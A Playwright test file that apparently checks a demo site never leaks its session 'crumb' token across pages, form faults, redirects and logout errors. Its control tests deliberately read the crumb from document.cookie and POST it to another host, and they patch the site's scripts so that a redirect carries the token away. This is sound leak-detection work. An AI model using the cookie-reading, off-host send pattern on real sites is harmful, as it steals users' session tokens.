// The crumb goes to the site's own host and into nothing that is recorded (faults F-050, F-051; threats T-09, T-10).
import type { Page } from '@playwright/test';
import { PAGES } from '../../unit/demo/site/site-pages.ts';
import { button, contactForm, fillIn, SAVE } from '../blocks/form/contact-form.ts';
import { ITEMS, isItem } from '../consent/shop-pages.ts';
import { expect, settled, test } from '../tools/fixture.ts';
import { calls, demoUrl, fault, faultsOff, forgetCalls } from '../tools/server-log.ts';
import { type CrumbWatch, type Place, watchCrumbs } from './crumb-watch.ts';
import { FAULT_FACTS, titleOf } from './fault-facts.ts';
import { logoutPage } from './logout-page.ts';

const KEY = '/api/form/FormSubmissionKey';
const LOGOUT = '/api/auth/Logout';
const LONG = { tag: '@long' };
const CRUMB_FAULTS = FAULT_FACTS.filter((fact) => /^(crumb-fail|redirect)/.test(fact.fault));

/** This very server under its other name: to a browser it is another host. */
const elsewhere = (url: string): string => url.replace('//127.0.0.1', '//localhost');

const summary = (page: Page) => page.locator('[part~="summary"], [part~="result"]');

const printed: string[] = [];
const print = (what: string, { seen, crumbs }: CrumbWatch): unknown =>
  printed.push(
    `${what}: 0 leaks of ${crumbs()} crumbs; ${seen.requests} requests, ${seen.withCrumb} with a crumb, ${seen.foreign} to another host; ${seen.lines} console lines, ${seen.texts} texts read`,
  );

test.beforeEach(async ({ context }) => {
  await forgetCalls();
  await context.addCookies([{ name: 'ss_cookieAllowed', value: 'false', url: demoUrl() }]);
});

/** Brings the first block that waits to be near into view; gives how many there are. A slow machine may scroll past one. */
const bringNext = (page: Page): Promise<number> =>
  page.evaluate(() => {
    const late = document.querySelectorAll(
      '[data-block-state=waiting]:not([data-block=popup], [data-block=popup] *, [data-block=announcement-bar])',
    );
    late[0]?.scrollIntoView({ behavior: 'instant', block: 'center' });
    return late.length;
  });

test(
  'no crumb gets out or is recorded on a way through every kind of page of the site and out of it [DATA-002]',
  LONG,
  async ({ context, page }) => {
    const watch = await watchCrumbs(context, demoUrl());
    for (const address of PAGES.filter((one) => !isItem(one) || ITEMS.includes(one))) {
      await page.goto(address);
      await page.evaluate(async () => {
        const frame = (): Promise<number> => new Promise((done) => requestAnimationFrame(done));
        for (let top = 0; top < document.body.scrollHeight; top += innerHeight) {
          scrollTo({ top, behavior: 'instant' });
          await frame();
          await frame();
        }
      });
      await expect.poll(() => bringNext(page), { message: 'blocks under way', intervals: [50] }).toBe(0);
      if ((await page.locator('[data-block]').count()) > 0) await settled(page);
      await watch.look(page);
    }
    await page.goto('/atelie/contato');
    await page.evaluate(
      (href) => {
        const link = document.createElement('a');
        link.href = href;
        // The most a page can give away.
        link.referrerPolicy = 'unsafe-url';
        link.textContent = 'Fora';
        document.body.append(link);
        link.click();
      },
      elsewhere(`${demoUrl()}/atelie/`),
    );
    await page.waitForURL(/localhost/);
    await watch.look(page);
    expect(await watch.leaks()).toEqual([]);
    expect(watch.crumbs()).toBeGreaterThan(0);
    expect(watch.seen.foreign).toBeGreaterThan(0);
    print('site', watch);
  },
);

test(
  'no crumb gets out or is recorded when a form meets each crumb fault and each redirect to another host, in turn with its first and its second call [DATA-002] [DATA-017]',
  LONG,
  async ({ context, page, pageWith, allowConsole }) => {
    allowConsole(/Failed to load resource|Fetch API cannot load|redirect/i);
    const watch = await watchCrumbs(context, demoUrl());
    await page.goto('/');
    for (const [at, { fault: id, value, times }] of CRUMB_FAULTS.entries()) {
      await fetch(`${demoUrl()}/__submissions`, { method: 'DELETE' });
      await pageWith(contactForm());
      await settled(page);
      await fillIn(page);
      await fault({ path: at % 2 ? SAVE : KEY, fault: id, value, times, method: 'POST' });
      await button(page).click();
      await expect(summary(page)).toBeVisible();
      await watch.look(page);
      await faultsOff();
    }
    expect(await watch.leaks()).toEqual([]);
    expect((await calls()).filter(({ path }) => path.startsWith('/__elsewhere'))).toEqual([]);
    expect(watch.seen.withCrumb).toBeGreaterThan(CRUMB_FAULTS.length);
    print('form × crumb faults', watch);
  },
);

test('no crumb is in what a failed call says of itself, whatever the fault [DATA-002]', { tag: '@long' }, async ({
  context,
  page,
  pageWith,
  allowConsole,
}) => {
  allowConsole(/Failed to load resource|Fetch API cannot load|redirect/i);
  const watch = await watchCrumbs(context, demoUrl());
  const signOut = await logoutPage(page, pageWith);
  let failed = 0;
  for (const fact of FAULT_FACTS.filter(({ wire }) => wire !== 'silent')) {
    await fault({ path: LOGOUT, fault: fact.fault, value: fact.value, times: fact.times });
    const { error } = await signOut();
    if (error) failed += 1;
    expect(error, titleOf(fact)).not.toMatch(/crumb=/);
    await page.evaluate((text) => Reflect.get(window, 'said').push(text), error);
    await faultsOff();
  }
  await watch.look(page);
  expect(await watch.leaks()).toEqual([]);
  expect(failed).toBeGreaterThan(20);
  print(`logout, ${failed} errors`, watch);
});

test('control: a crumb is found wherever a page lets it out', { tag: '@long' }, async ({
  context,
  page,
  pageWith,
  allowConsole,
}) => {
  allowConsole(/crumb|Failed to load|Access to fetch|CORS/);
  const watch = await watchCrumbs(context, demoUrl());
  await page.goto('/');
  await pageWith('<p>Uma página que fala demais</p>', { tag: '' });
  const thrown = context.waitForEvent('weberror');
  await page.evaluate(
    async (away) => {
      const [, crumb = ''] = /crumb=([^;]+)/.exec(document.cookie) ?? [];
      console.warn(`crumb ${crumb}`);
      setTimeout(() => {
        throw new Error(`crumb ${crumb}`);
      });
      sessionStorage.setItem('visto', crumb);
      performance.mark(`visto ${crumb}`);
      Reflect.get(window, 'said').push(crumb);
      Object.assign(window, { Vitrine: { report: () => ({ messages: [crumb] }) } });
      history.replaceState(null, '', `?crumb=${crumb}`);
      await fetch('/favicon.svg', { referrerPolicy: 'unsafe-url' });
      // What comes of it is not this test's business: it has been sent.
      await fetch(away, { method: 'POST', mode: 'no-cors', body: crumb }).catch(() => {});
    },
    elsewhere(`${demoUrl()}/__elsewhere/visita`),
  );
  await thrown;
  await watch.look(page);
  const places: Place[] = [
    'address',
    'console',
    'error',
    'foreign host',
    'referrer',
    'report',
    'said',
    'storage',
    'timing',
  ];
  expect([...new Set((await watch.leaks()).map(([place]) => place))].sort()).toEqual(places);
});

test("control: without the call layer's own care a redirect takes the crumb to the other host", {
  tag: '@long',
}, async ({ context, page, pageWith, allowConsole }) => {
  allowConsole(/Failed to load resource|Access to fetch|redirect/i);
  let places = 0;
  await page.route('**/chunks/*.js', async (route) => {
    const text = await (await route.fetch()).text();
    const careless = text.replace(/mode:\w+\?"same-origin":"cors",redirect:.{0,40}:"error"/, () => {
      places += 1;
      return 'mode:"cors",redirect:"follow"';
    });
    await route.fulfill({ contentType: 'text/javascript', body: careless });
  });
  const watch = await watchCrumbs(context, demoUrl());
  await page.goto('/');
  await pageWith(contactForm());
  await settled(page);
  await fillIn(page);
  await fault({ path: KEY, fault: 'redirect', value: 307 });
  await button(page).click();
  await expect(summary(page)).toBeVisible();
  expect(places).toBe(1);
  await expect.poll(async () => (await watch.leaks()).map(([place]) => place)).toContain('foreign host');
});

test.afterAll(() => console.log(printed.join('\n')));
